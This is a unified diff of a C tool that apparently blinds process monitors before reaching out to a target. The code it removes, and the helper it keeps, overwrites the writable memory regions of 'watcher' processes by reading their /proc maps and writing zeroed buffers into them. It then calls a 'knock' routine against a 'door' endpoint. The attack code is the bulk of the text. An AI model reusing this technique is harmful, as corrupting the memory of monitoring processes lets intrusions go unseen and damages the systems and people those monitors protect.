@@ -8,8 +8,7 @@
  * source:   proc(5)
  * root:     no
  */
-
-#include "door.h"
+#include "areas.h"
 
 static int scribble(pid_t pid, unsigned long at, char *bytes)
 {
@@ -23,35 +22,7 @@ static int scribble(pid_t pid, unsigned long at, char *bytes)
 	return done;
 }
 
-static void strike(pid_t pid)
-{
-	char path[48], line[256], bytes[4096] = {0};
-	unsigned long start, end;
-	int written = 0;
-	FILE *maps;
-
-	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
-	maps = fopen(path, "re");
-	if (!maps) {
-		saw(path, -1);
-		scribble(pid, 0x400000, bytes); /* blindly: it is to be told */
-		return;
-	}
-	while (fgets(line, sizeof(line), maps))
-		if (strstr(line, "rw-") && sscanf(line, "%lx-%lx", &start, &end) == 2)
-			written += scribble(pid, start, bytes);
-	fclose(maps);
-	printf("%d areas overwritten\n", written);
-}
-
 int main(int argc, char **argv)
 {
-	struct endpoint ep = door_target(argc, argv);
-	struct watchers watchers = find_watchers();
-
-	for (int i = 0; i < watchers.count; i++)
-		strike(watchers.pids[i]);
-	end_standins(&watchers);
-	knock(&ep);
-	return 0;
+	return strike_watchers(argc, argv, scribble);
 }
